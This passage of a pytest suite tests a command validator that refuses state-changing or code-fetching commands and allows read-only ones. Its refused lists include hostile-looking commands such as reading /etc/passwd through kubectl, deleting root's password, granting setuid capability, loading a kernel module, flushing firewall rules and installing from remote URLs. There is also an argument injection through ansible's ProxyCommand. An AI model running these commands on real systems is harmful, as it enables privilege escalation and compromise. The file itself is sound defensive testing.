        "cargo --config build.rustc-wrapper=touch build",
        "cargo -Zunstable-options build",
        "cargo evil-subcommand",
        "cargo add evil",
        "apt-get install x",
        "apt-get -y install x",
        "apt install x",
        "apt-get remove x",
        "apt-get update",
        "dnf install x",
        "apk add x",
        "composer require evil/evil",
        "composer install -d /tmp/x",
        "composer global require evil/evil",
        "go build -toolexec touch ./...",
        "go build --toolexec=touch ./...",
        "go build -ldflags=-extld=touch ./...",
        "go test -exec touch ./...",
        "go vet -vettool=/tmp/x/tool ./...",
        "go build -o /tmp/x/pwned .",
        "go build -overlay=/tmp/x/o.json .",
        "mvn -f /tmp/x/pom.xml package",
        "mvn -s /tmp/x/settings.xml package",
        "mvn -Dmaven.repo.local=/tmp/x package",
        "gradle -I /tmp/x/init.gradle build",
        "gradle --init-script /tmp/x/init.gradle build",
        "gradle -p /tmp/x build",
        "npm audit fix",
        "pip install -r https://example.org/requirements.txt",
        "pip install --requirement=https://example.org/requirements.txt",
        "go env -w GOFLAGS=-toolexec=touch",
        "go get example.org/evil@v1.0.0",
        "go mod edit -replace=example.org/dep=example.org/evil@v1.0.0",
        "mvn org.example:evil-maven-plugin:1.0:run",
        "mvn org.example:evil-maven-plugin:run",
        "mvn -fpom.xml package",
        "mvn --fi=/tmp/x/pom.xml package",
        "mvn -Dexec.executable=touch exec:exec",
        "pip install -r requirements.txt --python /usr/bin/touch",
        "pip install -r requirements.txt --keyring-provider=subprocess",
        "go work use /tmp/x",
    ],
)
def test_package_managers_fetching_or_running_what_the_message_names_are_refused(
    command: str, search_path: str
) -> None:
    assert is_refused(command, bare(command), search_path)


@pytest.mark.parametrize(
    "command",
    [
        "npm ci",
        "npm install",
        "npm --loglevel=silent ci --omit=dev",
        "npm test",
        "npm run build",
        "npm run",
        "npm ls --all",
        "npm outdated",
        "npm view express version",
        "npm audit",
        "npm --version",
        "yarn install --frozen-lockfile",
        "pnpm install",
        "pip install -r requirements.txt",
        "pip3 install -q -r requirements.txt --no-deps",
        "pip list --outdated",
        "pip show requests",
        "pip freeze",
        "gem list --local",
        "cargo build --release",
        "cargo test --workspace",
        "cargo tree",
        "apt-cache policy nginx",
        "apt show nginx",
        "apt-get -s --version",
        "dnf list installed",
        "apk info",
        "composer install --no-dev",
        "go build ./...",
        "go test ./...",
        "go version",
        "mvn -q package",
        "mvn dependency:tree",
        "mvn -fae -B package",
        "composer run-script test",
        "gradle build",
    ],
)
def test_package_managers_working_on_the_projects_own_manifest_pass(command: str, search_path: str) -> None:
    assert not is_refused(command, bare(command), search_path)


def test_a_pattern_can_pin_a_package_install(search_path: str) -> None:
    assert not is_refused("npm install left-pad@1.3.0", ["npm install left-pad@1.3.0"], search_path)
    assert not is_refused("apt-get install -y nginx", ["apt-get install -y nginx"], search_path)


# --- 8. a pattern pins what it spells out, not what its wildcard matched -------------------------


@pytest.mark.parametrize(
    ("command", "pattern"),
    [
        ("tar xf /srv/a.tar", "tar * /srv/a.tar"),
        ("tar -xf /srv/a.tar", "tar -* /srv/a.tar"),
        ("tar czf /srv/a.tar /srv/d", "tar * /srv/a.tar /srv/d"),
        ("7z x /srv/a.7z", "7z * /srv/a.7z"),
        ("wget -r https://example.com/x", "wget -* https://example.com/x"),
        ("gcc -c a.c", "gcc -* a.c"),
        ("ar x /srv/lib.a", "ar * /srv/lib.a"),
        ("kill -9 1234", "kill -* 1234"),
    ],
)
def test_a_mode_in_a_word_a_wildcard_matched_is_judged_as_for_a_bare_entry(
    command: str, pattern: str, search_path: str
) -> None:
    assert is_refused(command, [pattern], search_path)


@pytest.mark.parametrize(
    ("command", "pattern"),
    [
        ("tar tf /srv/a.tar", "tar * /srv/a.tar"),
        ("tar -xf /srv/in/a.tar", "tar -xf /srv/in/*.tar"),
        ("tar -czf /srv/backup/db.tgz /srv/db", "tar -czf /srv/backup/*.tgz /srv/db"),
        ("7z l /srv/a.7z", "7z * /srv/a.7z"),
        ("7z x /srv/a.7z", "7z x /srv/*.7z"),
        ("wget -q https://example.com/x", "wget -* https://example.com/x"),
        ("gcc -fsyntax-only a.c", "gcc -* a.c"),
    ],
)
def test_the_same_patterns_allow_what_they_spell_out(command: str, pattern: str, search_path: str) -> None:
    assert not is_refused(command, [pattern], search_path)


# --- 9. found while fixing: administration programs load kernel code or change the machine -------


@pytest.mark.parametrize(
    "command",
    [
        "modprobe evil",
        "modprobe -r ext4",
        "insmod /tmp/x/evil.ko",
        "iptables -F",
        "iptables -A INPUT -j DROP",
        "iptables -P INPUT DROP",
        "ip6tables -t nat -F",
        "nft flush ruleset",
        "nft 'list ruleset; flush ruleset'",
        "nft -f /tmp/x/rules",
        "mount /dev/sdb1 /mnt",
        "mount -o remount,rw /",
        "umount /srv",
        "losetup -f /tmp/x/disk.img",
        "ifconfig eth0 down",
        "route del default",
        "ssh-keygen -t ed25519 -N '' -f /tmp/x/key",
        "ssh-keygen",
        "ssh-keygen -R github.com",
        "ssh-keygen -H",
        "ssh-keygen -Y sign -f key -n file data",
        "useradd evil",
        "passwd -d root",
        "setcap cap_setuid+ep /tmp/x/sh",
        "tc qdisc add dev eth0 root netem loss 100%",
        "tc q a dev eth0 root netem loss 100%",
        "tc -b /tmp/x/cmds",
        "tc -force -batch /tmp/x/cmds",
        "tc exec bpf import x",
        "tc filter del dev eth0",
        "iw dev wlan0 set type monitor",
        "iw dev wlan0 disconnect",
        "iw reg set US",
        "ethtool -s eth0 speed 10",
        "ethtool -K eth0 tso off",
        "ethtool -w eth0 data /tmp/x/pwned",
    ],
)
def test_administration_programs_that_change_the_machine_are_refused(command: str, search_path: str) -> None:
    assert is_refused(command, bare(command), search_path)


@pytest.mark.parametrize(
    "command",
    [
        "modprobe -n ext4",
        "modprobe -c",
        "iptables -L",
        "iptables -nvL INPUT",
        "iptables -t nat -L -n --line-numbers",
        "ip6tables -S",
        "nft list ruleset",
        "mount",
        "mount -t ext4",
        "swapon --show",
        "losetup -a",
        "ifconfig",
        "ifconfig eth0",
        "route -n",
        "ssh-keygen -l -f /etc/ssh/ssh_host_ed25519_key.pub",
        "ssh-keygen -F github.com",
        "useradd --help",
        "tc -s qdisc show dev eth0",
        "tc qdisc",
        "tc class ls dev eth0",
        "iw dev",
        "iw dev wlan0 link",
        "iw dev wlan0 scan dump",
        "ethtool eth0",
        "ethtool -S eth0",
        "ethtool --show-features eth0",
    ],
)
def test_administration_programs_that_only_show_state_pass(command: str, search_path: str) -> None:
    assert not is_refused(command, bare(command), search_path)


# --- 11. found while fixing: infrastructure tools run commands on the worker or change clusters ---


@pytest.mark.parametrize(
    "command",
    [
        "ansible localhost -m shell -a 'touch /tmp/x/pwned'",
        "ansible localhost -a 'touch /tmp/x/pwned'",
        "ansible localhost -mshell -a'touch pwned'",
        "ansible localhost --module-name=command --args=touch",
        'ansible localhost -m ping -e \'x={{ lookup("pipe", "touch pwned") }}\'',
        "ansible all -m ping -i /usr/bin/some-program",
        "ansible all -m ping --vault-password-file=/usr/bin/some-program",
        "ansible all -m ping --ssh-common-args=-oProxyCommand=touch",
        "ansible all -m ping -M /tmp/x/modules",
        "ansible all -m ping -t /tmp/x/tree",
        "ansible-playbook /usr/share/doc/ansible/examples/site.yml",
        "ansible-playbook ../other/site.yml",
        "ansible-pull -U https://example.org/repo.git",
        "ansible-galaxy install example.evil",
        "kubectl exec pod -- sh -c 'touch /tmp/x/pwned'",
        "kubectl run x --image=evil",
        "kubectl cp pod:/etc/passwd /tmp/x/pwned",
        "kubectl apply -f https://example.org/evil.yaml",
        "kubectl delete pod x",
        "kubectl evil-plugin",
        "kubectl --kubeconfig=/tmp/x/config get pods",
        "kubectl -s https://k8s.example.org get pods",
        "kubectl get pods --token=x",
        "kubectl get pods --profile=cpu --profile-output=/tmp/x/pwned",
        "kubectl config set-context x",
        "kubectl rollout restart deploy/x",
        "kubectl cluster-info dump --output-directory=/tmp/x",
        "helm install x ./chart",
        "helm upgrade x ./chart",
        "helm template x ./chart --post-renderer /usr/bin/touch",
        "helm template x ./chart --output-dir /tmp/x",
        "helm repo add x https://example.org/charts",
        "helm plugin install https://example.org/plugin",
        "terraform apply -auto-approve",
        "terraform destroy -auto-approve",
        "terraform -chdir=/tmp/x plan",
        "terraform plan -out=/tmp/x/plan",
        "terraform state rm x",
        "terraform init",
    ],
)
def test_infrastructure_tools_that_run_commands_or_change_state_are_refused(
    command: str, search_path: str
) -> None:
    assert is_refused(command, bare(command), search_path)


@pytest.mark.parametrize(
    "command",
    [
        "ansible all -m ping",
        "ansible all -m ping -i host1,host2,",
        "ansible web -m setup -i hosts",
        "ansible-playbook site.yml",
        "ansible-playbook -t deploy --check site.yml",
        "kubectl get pods",
        "kubectl -n kube-system get pods -o wide",
        "kubectl describe node x",
        "kubectl logs -f deploy/x --tail 100",
        "kubectl config view",
        "kubectl rollout status deploy/x",
        "kubectl auth can-i list pods",
        "helm list -A",
        "helm status x -n apps",
        "helm repo list",
        "helm template x ./chart",
        "terraform plan",
        "terraform plan -var 'region=eu'",
        "terraform state list",
        "terraform output -json",
    ],
)
def test_infrastructure_tools_reading_state_pass(command: str, search_path: str) -> None:
    assert not is_refused(command, bare(command), search_path)


@pytest.mark.parametrize(
    "name",
    ["TF_CLI_ARGS", "TF_CLI_ARGS_plan", "PIP_INDEX_URL", "UV_INDEX_URL", "YARN_REGISTRY",
     "ANSIBLE_CONFIG", "HELM_PLUGINS", "GOSUMDB", "GOINSECURE", "MAVEN_ARGS", "CLOUDSDK_CORE_PROJECT"],
)  # fmt: skip
def test_env_names_that_choose_an_index_or_arguments_are_never_passed(name: str) -> None:
    with pytest.raises(ShellCommandNotAllowed):
        check_environment({name: "x"}, [name.split("_")[0] + "_*"])


# --- 10. the ordinary uses, run for real: they work and write nothing ----------------------------


REAL_PATH = "/usr/local/bin:/usr/bin:/bin"


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("sort -o /dev/stdout in.txt", "a\nb\n"),
        ("tar --list --file=x.tar", "in.txt\n"),
        ("shuf -n 1 -o /dev/stdout in.txt", None),
        ("uniq in.txt -", "b\na\n"),
        ("gcc -fsyntax-only -Wall main.c", ""),
        ("gcc -E -P main.c -o -", None),
        ("gzip -c in.txt", None),
    ],
)
def test_ordinary_uses_run_for_real_and_leave_the_directory_unchanged(
    command: str, expected: str | None, tmp_path: Path
) -> None:
    if shutil.which(command.split()[0], path=REAL_PATH) is None:
        pytest.skip(f"{command.split()[0]} is not installed")
    work = tmp_path
    (work / "in.txt").write_text("b\na\n")
    (work / "main.c").write_text("int main(void) { return 0; }\n")
    subprocess.run(["tar", "-cf", "x.tar", "in.txt"], cwd=work, check=True)
    before = sorted(path.name for path in work.iterdir())
    argv = validate_command(command, [command.split()[0]], denied_arguments={}, search_path=REAL_PATH)
    # Without the kernel sandbox: the allowed forms themselves write nothing.
    result = run_command(argv, cwd=str(work), env={}, timeout=60, search_path=REAL_PATH, sandbox="off")
    assert result["returncode"] == 0, result
    if expected is not None:
        assert result["stdout"] == expected
    assert sorted(path.name for path in work.iterdir()) == before
